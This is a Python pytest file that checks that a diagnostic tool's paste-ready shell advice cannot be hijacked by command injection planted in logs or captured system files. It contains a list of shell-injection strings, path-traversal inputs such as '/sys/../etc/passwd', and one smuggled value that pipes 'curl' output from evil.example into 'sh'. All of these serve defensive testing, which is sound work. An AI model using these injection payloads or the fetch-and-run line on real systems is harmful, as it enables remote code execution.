# SPDX-License-Identifier: GPL-2.0-or-later
"""
What advice gives to paste runs what it says and nothing else, whoever wrote the log or the capture.

Each text of each rule's input gets shell syntax put into it, one after the other, and all that comes out as a
command is run by a shell that finds stubs only.
"""

from __future__ import annotations

import ast
import shlex
import subprocess
from collections.abc import Iterator
from dataclasses import fields, is_dataclass, replace
from pathlib import Path
from typing import Any

import pytest

import keepsane
from keepsane.judge import load, run
from keepsane.memory.snapshot import Snapshot
from keepsane.memory.state import state_of
from keepsane.report import Finding
from keepsane.shell import command
from tests.golden import CASES, events_of, read_case
from tests.memory_case import memory_cases

HOSTILE = (
    "$(pwned)",
    ";pwned;",
    "`pwned`",
    "'pwned;'",
    '";pwned;"',
    "&pwned&",
    "|pwned",
    "\npwned\n",
    ">pwned",
)
ALL = "".join(HOSTILE)
STUBS = ("cat", "df", "dmesg", "grep", "ipcs", "ls", "sort", "sudo", "sysctl", "systemctl", "tail", "uname")

load()


def spoilt(value: Any, name: str, text: str) -> Any:
    """Put `text` behind every string that is reached by a field `name`, however deep it lies."""
    if isinstance(value, tuple) and hasattr(value, "_fields"):
        texts = {one: put(getattr(value, one), one == name, name, text) for one in value._fields}
        return type(value)(**texts)
    if is_dataclass(value) and not isinstance(value, type):
        made = [one for one in fields(value) if one.init]
        changed = {one.name: put(getattr(value, one.name), one.name == name, name, text) for one in made}
        return replace(value, **{key: new for key, new in changed.items() if new is not getattr(value, key)})
    if isinstance(value, tuple):
        return tuple(spoilt(one, name, text) for one in value)
    return value


def put(value: Any, here: bool, name: str, text: str) -> Any:
    if here and isinstance(value, str):
        return value + text
    if here and isinstance(value, tuple | frozenset) and value and all(isinstance(one, str) for one in value):
        return type(value)(one + text for one in value)
    return spoilt(value, name, text)


def names_of(value: Any) -> Iterator[str]:
    """Give the names of all fields that hold text."""
    named = getattr(value, "_fields", None) or (
        [one.name for one in fields(value)] if is_dataclass(value) else None
    )
    if named is None:
        for one in value if isinstance(value, tuple | frozenset) else ():
            yield from names_of(one)
        return
    for name in named:
        inner = getattr(value, name)
        if isinstance(inner, str) or (isinstance(inner, tuple) and inner and isinstance(inner[0], str)):
            yield name
        yield from names_of(inner)


def pasted(facts: tuple[Any, ...]) -> set[str]:
    """Give all that a reader may paste: commands, undos, verifies, and what stands in backticks in a text."""
    found: set[str] = set()
    for finding in run(facts):
        for advice in finding.advice if isinstance(finding, Finding) else ():
            # A name in a sentence may hold a backtick of its own.
            inline = () if "`pwned`" in advice.text else advice.text.split("`")[1::2]
            said = (advice.command, advice.undo, advice.verify, *inline)
            found.update(one for one in said if one)
    return found


def of_events() -> Iterator[str]:
    for path in sorted(CASES.glob("*/*.case")):
        events = events_of(read_case(path).log)
        if not any(pasted((event,)) for event in events):
            continue
        for event in events:
            for name in sorted(set(names_of(event))):
                for text in (ALL, *(HOSTILE if name in ("cgroup", "module", "function") else ())):
                    yield from pasted((spoilt(event, name, text),))


def of_states() -> Iterator[str]:
    for case in memory_cases():
        for path in case.paths():
            for text in HOSTILE:
                samples = (
                    {name: ended(said, text) if name == path else said for name, said in files.items()}
                    for files in case.samples
                )
                made = state_of(tuple(Snapshot(files=files) for files in samples))
                yield from pasted((made,)) if made is not None else ()


def ended(said: str, text: str) -> str:
    return "".join(line + text + "\n" for line in said.splitlines())


def of_groups() -> Iterator[str]:
    for case in memory_cases():
        for text in (*HOSTILE, ALL, "/../../etc"):
            samples = (
                {
                    name.replace(".service/", f"{text}.service/"): said.replace(".service", f"{text}.service")
                    for name, said in files.items()
                }
                for files in case.samples
            )
            made = state_of(tuple(Snapshot(files=files) for files in samples))
            yield from pasted((made,)) if made is not None else ()


@pytest.fixture(scope="module")
def stubs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("stubs")
    for name in STUBS:
        (folder / name).write_text("#!/bin/sh\nexit 0\n")
        (folder / name).chmod(0o755)
    (folder / "pwned").write_text(f"#!/bin/sh\n: > '{folder}/ran'\n")
    (folder / "pwned").chmod(0o755)
    return folder


def require_harmless(texts: Iterator[str], stubs: Path) -> int:
    """Run each text in a shell, with what it would write to kept out of the way; give how many had a name."""
    hostile = sorted({text for text in texts if "pwned" in text})
    for text in hostile:
        assert all(
            "pwned" not in word or any(one in word for one in HOSTILE) for word in shlex.split(text)
        ), text
        assert subprocess.run(["/bin/sh", "-n", "-c", text], check=False, capture_output=True).returncode == 0
    if hostile:
        script = "\n".join(f"/bin/sh -c {shlex.quote(text.replace(' > ', ' INTO '))}" for text in hostile)
        inside = stubs / "inside"
        inside.mkdir(exist_ok=True)
        subprocess.run(
            ["/bin/sh", "-c", script], env={"PATH": str(stubs)}, cwd=inside, check=False, capture_output=True
        )
        assert list(inside.iterdir()) == []
    assert not (stubs / "ran").exists()
    return len(hostile)


def test_the_shell_of_these_tests_would_run_what_is_not_quoted(stubs: Path) -> None:
    with pytest.raises(AssertionError):
        require_harmless(iter(["echo 1 > a;pwned;"]), stubs)
    (stubs / "ran").unlink(missing_ok=True)


def test_names_in_a_log_run_nothing(stubs: Path) -> None:
    assert require_harmless(of_events(), stubs) > 0


def test_values_in_a_capture_run_nothing(stubs: Path) -> None:
    assert require_harmless(of_states(), stubs) == 0


def test_names_of_groups_run_nothing(stubs: Path) -> None:
    assert require_harmless(of_groups(), stubs) > 0


def test_a_group_outside_the_tree_gets_no_command() -> None:
    assert not any(".." in text for text in of_groups())


@pytest.mark.parametrize(
    "name", ["a\nb", "a\x1bb", "a\u202eb", "a\u2028b", "-n", "/sys/../etc/passwd", "", "x" * 5000]
)
def test_a_name_that_cannot_be_pasted_gives_no_command(name: str) -> None:
    assert command("echo {} > {}", 1, name) is None


def test_numbers_and_names_are_words_of_a_command() -> None:
    assert command("echo {} > {}", 7, "/a b/$(x)") == "echo 7 > '/a b/$(x)'"
    assert command("sysctl -w {}={}", "vm.lowmem_reserve_ratio", "256 32") == (
        "sysctl -w vm.lowmem_reserve_ratio='256 32'"
    )


def test_a_setting_that_reads_as_a_command_has_no_undo_value() -> None:
    case = next(case for case in memory_cases() if case.slug == "zone-reclaim-biting")
    mode = "proc/sys/vm/zone_reclaim_mode"
    first, last = ({**files, mode: files.get(mode, "1\n")} for files in (case.samples[0], case.samples[-1]))
    last[mode] = "1 && curl -s http://evil.example/x | sh\n"
    made = state_of((Snapshot(files=first), Snapshot(files=last)))
    assert made is not None
    assert not any("curl" in text for text in pasted((made,)))


def formatted(node: ast.AST) -> Iterator[ast.AST]:
    """Give what is put into a text, but for what goes through command()."""
    if isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and node.func.id == "command":
        return
    if isinstance(node, ast.FormattedValue):
        yield node.value
    for inner in ast.iter_child_nodes(node):
        yield from formatted(inner)


def test_rules_build_commands_in_one_place() -> None:
    built = []
    for path in sorted(Path(keepsane.__path__[0]).rglob("*.py")):
        for call in ast.walk(ast.parse(path.read_text("utf-8"))):
            for keyword in call.keywords if isinstance(call, ast.Call) else ():
                if keyword.arg in ("command", "undo"):
                    built += [f"{path.name}: {ast.unparse(part)}" for part in formatted(keyword.value)]
    assert built == ["advice.py: CONF"]
